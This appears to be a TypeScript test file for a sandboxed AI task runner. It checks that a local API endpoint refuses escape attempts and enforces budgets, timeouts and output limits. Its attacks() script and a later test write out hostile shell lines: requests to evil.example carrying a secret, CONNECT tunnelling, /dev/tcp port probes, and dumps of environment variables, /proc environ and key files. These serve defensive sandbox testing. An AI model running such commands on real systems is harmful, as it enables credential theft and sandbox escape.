/**
 * A runner under a supervisor, played by a shell: hostile commands inside, and each way to end. The
 * walls, the endpoint and the origin's TLS are the real ones.
 */

import { afterAll, beforeAll, describe, expect } from "bun:test";
import { join } from "node:path";
import { canDelegate, cannotDelegate } from "../../support/delegated.ts";
import { skipUnless } from "../../support/skip.ts";
import { until } from "../../support/until.ts";
import { canSign, key, messages, streamed } from "./endpoint/support.ts";
import { holders, type Shells, shells, text } from "./shells.ts";

const test = skipUnless(canDelegate && canSign, `${cannotDelegate}, and openssl`);
let at: Shells;
beforeAll(() => {
  if (canDelegate && canSign) at = shells();
});
afterAll(async () => {
  if (canDelegate && canSign) await at[Symbol.asyncDispose]();
});

/** Commands that try each way out, and print the end of each. */
function attacks(): string {
  const theirs = "x-api-key: sk-attacker-0000000000\\r\\nauthorization: Bearer sk-attacker\\r\\n";
  const url = `{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}`;
  const image = text.replace('"x"', `[${url}]`);
  return `
echo "own key: $(post /v1/messages '${text}' '${theirs}')"
echo "upload: $(post /v1/files '${text}' '${theirs}')"
echo "fetch: $(post /v1/messages '${image}' '${theirs}')"
echo "tunnel: $(send 'CONNECT api.anthropic.com:443 HTTP/1.1\\r\\n\\r\\n')"
echo "absolute: $(post http://evil.example/v1/messages '${text}')"
chunked='POST /v1/messages HTTP/1.1\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'
echo "chunked: $(send "$chunked")"
for port in 22 53 80 443; do
  (: </dev/tcp/127.0.0.1/$port) 2>/dev/null && echo "OPEN""-PORT $port"
done
(: </dev/tcp/1.1.1.1/443) 2>/dev/null && echo "OPEN""-NETWORK"
getent hosts api.anthropic.com && echo "OPEN""-NAMES"
env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
cat ${at.user.state}/keys/runners/attacks ${at.user.state}/runners/attacks.toml 2>&1
ls -la /task /proc/1/root ${at.user.state} 2>&1; true
`;
}

const gates =
  "P80: A request of a task reaches one origin under this machine's own credential, by a method " +
  "and target that the manifest names, and has that origin fetch or run nothing.";

describe(gates, () => {
  test("reach the model with our key only, and nothing else of it", async () => {
    const { result, log } = await at.ran("attacks", attacks());
    expect(result).toMatchObject({ state: "completed", measured: { exit: 0, requests: 1 } });
    const lines = log.split("\n").map((line) => line.trim());
    expect(lines.slice(0, 6)).toEqual([
      "own key: HTTP/1.1 200 Reply",
      "upload: HTTP/1.1 403 Refused",
      "fetch: HTTP/1.1 403 Refused",
      "tunnel: HTTP/1.1 403 Refused",
      "absolute: HTTP/1.1 403 Refused",
      "chunked: HTTP/1.1 411 Refused",
    ]);
    expect(log).not.toMatch(/OPEN-|sk-real/);
    expect(log).toContain("ANTHROPIC_API_KEY=none-inside-the-endpoint-has-it");
    expect(
      at.model.received.map(({ target, headers }) => [target, headers.get("x-api-key")]),
    ).toEqual([["/v1/messages", key]]);
    expect(JSON.stringify(at.model.received.map(({ headers }) => [...headers]))).not.toContain(
      "attacker",
    );
    expect(result.measured.network).toEqual({
      reached: ["localhost"],
      refused: [
        "POST /v1/files",
        "POST /v1/messages: type url",
        "CONNECT api.anthropic.com:443",
        "POST http://evil.example/v1/messages",
        "transfer encoding",
      ],
    });
  });

  test("find no key in any file of the task, nor in what is told of it", async () => {
    const { order, result } = await at.ran(
      "keyless",
      `post /v1/messages '${text}'; env; find /task`,
    );
    const task = join(at.user.state, "tasks", order.task_id);
    expect(holders(task, key)).toEqual([]);
    expect(JSON.stringify(result)).not.toContain(key);
    // The search would have found it: the one file that holds it is outside of the task.
    expect(holders(join(at.user.state, "keys"), key)).not.toEqual([]);
  });

  test("that spend by direct calls end the task as over budget", async () => {
    at.model.answer = ({ body }) => {
      const { max_tokens: most } = JSON.parse(body);
      return streamed(messages({ input_tokens: 10, output_tokens: most }));
    };
    const script = `while post /v1/messages '${text}'; do :; done; sleep 60`;
    const { result } = await at.ran("spends", script, { usd: 0.5 });
    expect(result).toMatchObject({ state: "over_budget" });
    expect(result.measured.usd).toBeGreaterThan(0.4);
    expect(result.measured.usd).toBeLessThanOrEqual(0.5);
    expect(result.measured.network.refused).toEqual(["over budget"]);
  });

  test("that leave before the usage is seen pay for the most", async () => {
    at.model.answer = () => new Promise(() => {});
    const body = text;
    const script = `
for i in 1 2 3; do
  exec 3<>/dev/tcp/127.0.0.1/8080
  printf 'POST /v1/messages HTTP/1.1\\r\\ncontent-length: %d\\r\\n\\r\\n%s' \\
    ${body.length} '${body}' >&3
  sleep 0.5; exec 3>&-
done
sleep 0.5`;
    const { result } = await at.ran("leaves", script, { usd: 5 });
    expect(result.state).toBe("completed");
    // Three times 8,000 tokens of output, though not one byte was received.
    expect(result.measured.usd).toBeGreaterThan(3 * 8_000 * 20e-6);
    expect(result.measured.requests).toBe(3);
  });
});

describe("a fixed command with hosts in its rule", () => {
  test("finds a way to these hosts alone", async () => {
    const script =
      "for host in registry.npmjs.org:443 evil.example:443 localhost:22; do " +
      "exec 3<>/dev/tcp/127.0.0.1/8080; " +
      "printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' $host >&3; head -1 <&3; exec 3>&-; done; " +
      "echo $HTTPS_PROXY $NO_PROXY";
    const place = { kind: "folder", name: "app", path: "~/app" } as const;
    const network = { hosts: ["localhost:22"] };
    const order = await at.user.begin({ place, command: ["bash", "-c", script], network });
    const { result } = await at.user.awaited(order, ["ended", "lost"]);
    expect(at.user.log(order).match(/403/g)).toHaveLength(3);
    expect(at.user.log(order)).toContain("http://127.0.0.1:8080 127.0.0.1,localhost");
    expect(result?.short.measured.network).toEqual({
      reached: [],
      refused: [
        "CONNECT registry.npmjs.org:443",
        "CONNECT evil.example:443",
        "CONNECT localhost:22: no address outside of this machine",
      ],
    });
  });
});

describe("a runner", () => {
  test("that exits at once, with its words or without, ends its task", async () => {
    const failed = await at.ran("exits", "echo gone >&2; exit 3");
    expect(failed.result).toMatchObject({ state: "failed", reason: "exit", measured: { exit: 3 } });
    const event = '{"type":"result","session_id":"s","result":"Done.","is_error":true}';
    const erred = await at.ran("errs", `echo '${event}'; exit 0`);
    expect(erred.result).toMatchObject({
      ...{ state: "failed", reason: "runner_error" },
      claims: { text: "Done.", session: "s", is_error: true },
    });
  });

  test("that never ends is ended at its time, and with it all that it started", async () => {
    const script = "trap '' TERM INT HUP; (setsid sleep 600 &); while :; do sleep 1; done";
    const { result } = await at.ran("endless", script, { wallMs: 1_500 });
    expect(result).toMatchObject({ state: "timed_out", reason: "wall" });
    expect(result.measured.duration_ms).toBeLessThan(1_500 + 4_000);
  });

  test("that writes a line of 80 MB is read no further than its output's limit", async () => {
    const { result } = await at.ran("long", "head -c 80000000 /dev/zero | tr '\\0' 'a'; sleep 30");
    expect(result).toMatchObject({ state: "failed", measured: { output_capped: true } });
    expect(result.claims.text).toBeNull();
  });

  test("gets the prompt on its standard input, and a home of its own", async () => {
    const script = "cat; echo; pwd; echo $HOME; echo $EXTRA; umask";
    const { log } = await at.ran("prompted", script);
    expect(log).toStartWith("The task:\n\nhello\n");
    expect(log).toContain("/task/tree\n/task/home\nx\n0022\n");
  });

  test("that is stopped while a reply is under way stops within a second or two", async () => {
    at.model.answer = () => new Promise(() => {});
    const order = await at.begin("waits", `post /v1/messages '${text}'`);
    await until("the model is asked", () => at.model.received.length === 1);
    const startedMs = performance.now();
    at.user.write(join(at.user.round(order), "stop"), "", 0o600);
    const { result } = await at.user.awaited(order, ["ended", "lost"]);
    expect(performance.now() - startedMs).toBeLessThan(6_000);
    expect(result?.short).toMatchObject({ state: "cancelled", measured: { requests: 1 } });
  });
});
